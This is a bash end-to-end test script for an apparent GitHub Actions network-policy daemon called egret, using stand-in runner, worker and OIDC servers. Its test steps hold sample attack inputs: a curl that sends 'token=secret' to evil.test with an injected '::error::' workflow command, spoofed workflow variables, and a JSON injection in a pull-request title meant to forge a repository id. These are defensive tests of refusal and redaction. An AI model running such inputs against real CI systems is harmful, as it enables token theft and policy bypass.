#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The hooks of GitHub Actions around a job on the host. The runner is a stand-in: a listener that starts a Runner.Worker for each job,
# which calls, as the real one does, `bash -e` on the started hook, then each step with what GITHUB_ENV holds, then, whatever became of
# those, the completed hook; workflow variables do not reach the hooks. egretd, its kernel programs and the hooks are real.
. "$(dirname "$0")/../lib.sh"
. "$ROOT/tests/e2e/origins.sh"
. "$ROOT/tests/e2e/daemon.sh"
[ -z "${EGRET_DIRECT:-}" ] || skip_all "speaks of egret only"
need setpriv jq python3
EXTRA_HOSTS=([oidc.test]=198.51.100.53)
origins_up
RUNNER_UID=65534
daemon_config "\"managed\": [ { \"unit\": \"actions.runner.*.service\", \"registrar\": $RUNNER_UID, \"unregistered\": \"policy:runner\" } ],
	\"identity\": [ { \"issuer\": \"https://oidc.test\", \"kind\": \"github\" } ]"
pki_leaf outside oidc DNS:oidc.test
openssl genrsa -out "$TMP/sign.key" 2048 2>/dev/null
# What the server knows of the job, whatever the runner says.
echo '{ "sub": "repo:acme/vault:environment:production", "repository": "acme/vault", "repository_id": "9000", "repository_owner": "acme", "repository_owner_id": "1",
	"ref": "refs/heads/main", "sha": "0a1b", "event_name": "push", "environment": "production", "run_id": "77", "workflow": "ci", "actor": "kit", "runner_environment": "self-hosted" }' >"$TMP/claims.json"
spawn in_origin python3 "$ROOT/tests/e2e/oidc_standin.py" 198.51.100.53 "$TMP/oidc.pem" "$TMP/oidc.key" https://oidc.test "$TMP/claims.json" "$TMP/sign.key"
wait_port in_host 198.51.100.53 443
# The runner's own traffic: its CI server, unopened.
printf '{ "version": 1, "name": "runner", "mode": "enforce", "rules": [ { "id": "oidc", "allow": "tls://oidc.test:443" } ] }\n' >"$TMP/policies/runner.json"
printf '{ "version": 1, "name": "vault", "mode": "enforce", "for": [ { "repo_id": "9000", "environment": "production", "assurance": "signed" } ], "rules": [] }\n' >"$TMP/policies/vault.json"
pol() { printf '{ "version": 1, "name": "%s", "mode": "enforce", "for": [ %s ], "rules": [ { "id": "api", "allow": "GET https://api.test/**" } ] }\n' "$1" "$2" >"$TMP/policies/$1.json"; }
pol web '{ "repo": "acme/web", "event": ["push", "pull_request"], "fork": ["false"] }, { "repo": "acme/web", "event": "push" }'
daemon_start || done_testing
JOBS_CGROUP=$("$EGRET" status --json | jq -r .jobs_cgroup)
UNIT=$JOBS_CGROUP/actions.runner.acme.test.service
mkdir "$UNIT" || { fail "the runner's unit could be made below $JOBS_CGROUP"; done_testing; }
# shellcheck disable=SC2154
at_exit 'for d in "$UNIT"/* "$UNIT"; do [ ! -d "$d" ] || { for p in $(cat "$d/cgroup.procs"); do kill -9 "$p"; done; wait_for 3 "[ -z \"\$(cat $d/cgroup.procs)\" ]"; rmdir "$d"; }; done'

# ---- the stand-in ----

R=$TMP/actions-runner
mkdir -p "$R/bin" "$R/_work/_temp" "$R/hooks" "$TMP/prefix/bin"
ln -s "$EGRET" "$TMP/prefix/bin/egret"
for h in job-started.sh job-completed.sh; do sed "s|@PREFIX@|$TMP/prefix|g" "$ROOT/deploy/hooks/github/$h" >"$R/hooks/$h"; done
chmod 755 "$R/hooks"/*
# Named programs, as the real ones are: a shell under their names.
cp "$(readlink -f /bin/bash)" "$R/bin/Runner.Worker"
cp "$(readlink -f /bin/bash)" "$R/bin/Runner.Listener"
printf '\xef\xbb\xbf{\n  "agentId": 7,\n  "agentName": "CI-07"\n}' >"$R/.runner"
cat >"$R/worker" <<'WORKER'
# $1: folder of the job: event (name), event.json, steps/*; env of the workflow in workflow.env
job=$1 result=0
hook_env() { env -i PATH="$PATH" HOME=/ LC_ALL=C EGRET_RUN_DIR="$EGRET_RUN_DIR" EGRET_STATE_DIR="$EGRET_STATE_DIR" CI=true GITHUB_ACTIONS=true \
	GITHUB_REPOSITORY=acme/web GITHUB_REPOSITORY_OWNER=acme GITHUB_REPOSITORY_ID=8412 GITHUB_REF=refs/heads/main GITHUB_SHA=0a1b GITHUB_JOB=build \
	GITHUB_WORKFLOW=ci GITHUB_RUN_ID=77 GITHUB_ACTOR=kit GITHUB_EVENT_NAME="$(cat "$job/event")" GITHUB_EVENT_PATH="$job/event.json" \
	GITHUB_ENV="$job/github_env" GITHUB_STEP_SUMMARY="$job/step_summary" RUNNER_NAME=ci-07 RUNNER_TEMP="$RUNNER_TEMP" \
	$(cat "$job/token_env" 2>/dev/null) "$@"; }
: >"$job/github_env"
: >"$job/step_summary"
echo $$ >"$job/worker_pid"
hook_env bash -e "$HOOKS/job-started.sh" >"$job/started" 2>&1 || result=1
cat /proc/self/cgroup >"$job/cgroup"
if [ $result = 0 ]; then
	for step in "$job"/steps/*; do
		[ -e "$step" ] || continue
		hook_env env $(grep -v '^JAVA' "$job/github_env") $(cat "$job/workflow.env" 2>/dev/null) bash -e "$step" >"$job/out.${step##*/}" 2>&1 || result=1
	done
fi
hook_env bash -e "$HOOKS/job-completed.sh" >"$job/completed" 2>&1 || result=1
cat /proc/self/cgroup >"$job/cgroup_after"
echo $result >"$job/result.new" && mv "$job/result.new" "$job/result"
WORKER
cat >"$R/listener" <<'LISTENER'
while read -r job; do
	"$RUNNER/bin/Runner.Worker" "$RUNNER/worker" "$job" </dev/null
done <"$RUNNER/queue"
LISTENER
mkfifo "$R/queue"
chown -R $RUNNER_UID "$R"
spawn in_host env RUNNER="$R" HOOKS="$R/hooks" RUNNER_TEMP="$R/_work/_temp" bash -c "echo \$\$ >'$UNIT/cgroup.procs' || exit 9
	exec setpriv --reuid=$RUNNER_UID --regid=65534 --clear-groups --no-new-privs '$R/bin/Runner.Listener' '$R/listener'"
LISTENER=$SPAWNED
exec 7>"$R/queue"
N=0
job_begin() { # event, its file; steps are in $J/steps
	N=$((N + 1))
	J=$TMP/actions-runner/_work/job$N
	mkdir -p "$J/steps"
	echo "$1" >"$J/event"
	echo "${2:-{\}}" >"$J/event.json"
}
step() { cat >"$J/steps/$1"; }
job_go() {
	chown -R $RUNNER_UID "$J"
	echo "$J" >&7
}
job_wait() { wait_for 60 "[ -e '$J/result' ]" || fail "the job of the stand-in ended" "$(tail -n 5 "$J/started" "$J/completed" "$TMP/egretd.log" 2>&1)"; }
result() { cat "$J/result" 2>/dev/null; }

# ---- a push ----

job_begin push
step 1 <<'S'
curl -sS --max-time 20 https://api.test/hello.txt
S
step 2 <<'S'
curl -sS --max-time 20 -o /dev/null -w '%{http_code}' 'https://evil.test/::error::b?token=secret'
S
step 3 <<'S'
setsid sleep 300 </dev/null >/dev/null 2>&1 &
echo $!
S
step 4 <<S
touch '$J/here'
for i in \$(seq 300); do [ ! -e '$J/go_on' ] || exit 0; sleep 0.1; done
S
job_go
t "the started hook and three steps came and went" wait_for 60 "[ -e '$J/here' ]"
like "$(cat "$J/started")" 'egret: this job is j-[0-9a-f]+' "the started hook says the job's name"
JOB=$(sed -n 's/.*this job is \(j-[0-9a-f]*\);.*/\1/p' "$J/started")
like "$(cat "$J/cgroup")" "actions.runner.acme.test.service/$JOB" "the worker is in the job's cgroup, below its unit's"
shown=$("$EGRET" job show "$JOB" --json)
is "$(jq -r '.facts | "\(.provider) \(.repo) \(.repo_id) \(.event) \(.ref) \(.runner)"' <<<"$shown")" 'github acme/web 8412 push refs/heads/main ci-07' "facts of the hook"
is "$(jq -r .assurance <<<"$shown")" runner "vouched for by the runner"
is "$(jq -r .policy <<<"$shown")" web "they choose the policy"
is "$(jq -r '.members[0].kind' <<<"$shown")" worker "the worker is a member"
like "$("$EGRET" job list)" "^$JOB .* 1 +web " "egret job list shows it with its members"
is "$(cat "$J/out.1")" 'hello from api' "a step's allowed request, trusted by what GITHUB_ENV names"
is "$(cat "$J/out.2")" 403 "a step's request that no rule allows"
LEFT=$(cat "$J/out.3")
t "what the step left behind runs" kill -0 "$LEFT"
touch "$J/go_on"
job_wait
is "$(result)" 0 "the job succeeds"
like "$(cat "$J/completed")" '^::error title=egret::GET https://evil\.test/::error::b was refused: no rule allows it; to allow it, add' "the completed hook shows what was refused as an error"
unlike "$(cat "$J/completed")" 'secret' "without the query"
is "$(grep -c '^::' "$J/completed")" 1 "and what the job wrote begins no command"
like "$(cat "$J/step_summary")" '^## The network of this job' "a step summary"
like "$(cat "$J/step_summary")" 'evil\.test' "with what was refused"
t "what the step left behind is killed" wait_for 10 "! kill -0 $LEFT"
t "the job is over" wait_for 10 "! '$EGRET' job show '$JOB'"
unlike "$(cat "$J/cgroup_after")" "/j-" "the worker is back in its unit, so that it can report"
t "the listener lives" kill -0 "$LISTENER"
t "the job's cgroup is gone" wait_for 10 "[ ! -d '$UNIT/$JOB' ]"

# ---- the next job of the same runner; variables of a workflow choose nothing ----

job_begin push
echo "GITHUB_REPOSITORY=evil/evil EGRET_JOB=$JOB" >"$J/workflow.env"
step 1 <<S
'$EGRET' job register --provider github --worker none 2>&1 || echo "status \$?"
S
step 2 <<S
'$EGRET' job end j-000000000001 2>&1 || echo "status \$?"
S
step 3 <<S
'$EGRET' summary --format github
cat '$TMP/state/events.ndjson' 2>&1 | head -n 1
S
job_go
job_wait
is "$(result)" 0 "the next job of the same runner"
like "$(cat "$J/out.1")" 'status 1' "a step registers nothing: the first registration stands"
like "$(cat "$J/out.2")" 'status 1' "nor does it end another's job"
like "$(cat "$J/out.3")" 'Permission denied' "the log is root's"

# ---- pull requests ----

pull() { printf '{ "pull_request": { "title": "%s", "head": { "repo": %s }, "base": { "repo": { "id": 8412 } } } }' "$2" "$1"; }
job_begin pull_request "$(pull '{ "id": 8412, "fork": true }' 'x')"
job_go
job_wait
is "$(result)" 0 "a pull request of the repository itself"
job_begin pull_request "$(pull '{ "id": 99, "fork": true }' '\", \"head\": { \"repo\": { \"id\": 8412 } }')"
step 1 <<<'echo ran'
job_go
job_wait
is "$(result)" 1 "a fork's has no policy: the job fails"
like "$(cat "$J/started")" '^::error title=egret::' "and its log says so"
t "no step of it ran" test ! -e "$J/out.1"
job_begin pull_request "$(pull null 'the fork is deleted')"
job_go
job_wait
is "$(result)" 1 "one of which it cannot be told fits no more"

# ---- the server's own word ----

ask_env() { echo "ACTIONS_ID_TOKEN_REQUEST_URL=https://oidc.test/token?api-version=2.0 ACTIONS_ID_TOKEN_REQUEST_TOKEN=$1 SSL_CERT_FILE=$TMP/outside.pem" >"$J/token_env"; }
job_begin push
ask_env ask
step 1 <<S
'$EGRET' job show --json
S
# Overrides of two repositories: the one that the server signed, and the one that the runner said.
step 2 <<S
ask() { curl -sS -o /dev/null -w '%{http_code}\n' --max-time 20 https://api.test/hello.txt >'$J/code.'\$1; touch '$J/asked.'\$1; }
wait_go() { for i in \$(seq 300); do [ ! -e '$J/go.'\$1 ] || return 0; sleep 0.05; done; }
for n in 1 2 3 4; do wait_go \$n; ask \$n; done
S
go() { touch "$J/go.$1"; wait_for 20 "[ -e '$J/asked.$1' ]" && cat "$J/code.$1"; }
job_go
t "a signed job runs" wait_for 60 "[ -e '$J/out.1' ] && '$EGRET' job list | grep -q '[[:space:]]vault[[:space:]]'"
is "$(go 1)" 403 "what no rule allows is refused to it"
glass() { in_host "$EGRET" override audit "$@" --json | jq -r .message; }
like "$(glass --repo acme/web --ttl 1m --reason "another's")" '^jobs of this repository, as its CI server signed, are judged in mode audit$' "an override of the repository that its runner says"
is "$(go 2)" 403 "is not for it: what the server signed counts"
is "$(glass --repo acme/vault --ttl 6s --reason "the release, INC-7")" 'jobs of this repository, as its CI server signed, are judged in mode audit' "an override of its own repository"
begun=${EPOCHREALTIME/./}
is "$(go 3)" 200 "is: it runs on in mode audit"
is "$("$EGRET" status --json | jq -r '.overrides')" 2 "the figure of overrides in force"
t "it has ended by itself" wait_for 20 "'$EGRET' status --json | jq -e '.overrides == \"1\"'"
at_most $((6000 - (${EPOCHREALTIME/./} - begun) / 1000)) 100 "ms were left of its time"
is "$(go 4)" 403 "and the job is refused again"
job_wait
is "$(result)" 0 "a job that may ask for an identity token" || diag "$(tail -n 3 "$J/started")"
is "$(stream | jq -r 'select(.kind == "admin.override" and (.message | contains("INC-7"))) | "\(.process.uid) \(.process.comm) \(.message)"' | sed 's/ (egret.*//')" \
	"0 egret mode audit has begun for jobs of acme/vault, as its CI server signed
0 egret mode audit has ended for jobs of acme/vault, as its CI server signed" "both are events, with who asked"
is "$(stream | jq -r 'select(.kind == "http.request" and .verdict == "would_deny") | .http.url // .http.host' | sort -u | grep -c api.test)" 1 "what was let go is would_deny"
is "$(jq -r '"\(.assurance) \(.policy) \(.facts.repo) \(.facts.repo_id) \(.facts.environment)"' "$J/out.1" 2>/dev/null)" 'signed vault acme/vault 9000 production' \
	"what the server signed stands above what the runner said"
unlike "$(stream; cat "$TMP/egretd.log" "$J/started")" 'eyJ' "and no token is in a log"
job_begin push
ask_env wrong
step 1 <<<'echo ran'
job_go
job_wait
is "$(result)" 1 "a token that cannot be had: the job fails, not less is taken instead"
like "$(cat "$J/started")" 'identity token cannot be had: the server answered 403' "and is told why"
unlike "$(cat "$J/started")" 'wrong' "without the bearer"

# ---- what goes wrong ----

job_begin push
step 1 <<S
kill -9 \$(cat '$J/worker_pid')
S
job_go
t "a worker that is killed" wait_for 30 "[ -s '$J/worker_pid' ] && ! kill -0 \$(cat '$J/worker_pid')"
t "takes its job with it" wait_for 10 "! '$EGRET' job list --json | grep -q '\"kind\":\"worker\"'"
daemon_stop
job_begin push
step 1 <<<'echo ran'
job_go
job_wait
is "$(result)" 1 "no egretd: the job fails"
like "$(cat "$J/started")" 'no egretd answers' "and is told why"
t "no step of it ran" test ! -e "$J/out.1"
exec 7>&-
done_testing
